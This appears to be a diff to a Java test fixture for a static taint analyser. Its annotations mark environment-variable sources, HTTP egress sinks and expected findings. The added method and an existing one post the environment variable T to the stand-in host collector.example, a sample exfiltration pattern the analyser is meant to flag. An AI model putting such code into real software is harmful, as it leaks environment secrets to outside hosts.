@@ -16,6 +16,11 @@ class Serialise {
     static final String U = "https://collector.example/u";
     static final RestTemplate rest = new RestTemplate();
 
+    void fast() {
+        rest.postForObject(U, com.alibaba.fastjson.JSON.toJSONString(System.getenv("T")), String.class); //~ source(ENVIRONMENT) ffast, sink(egress.http) ffast, finding(traced) ffast
+        rest.postForObject(U, com.alibaba.fastjson.JSON.toJSONString("x"), String.class); //~ ok
+    }
+
     void parsed() {
         JSONObject object = new JSONObject(System.getenv("T")); //~ source(ENVIRONMENT) f1
         rest.postForObject(U, object.getString("t").trim(), String.class); //~ sink(egress.http) f1, finding(traced) f1
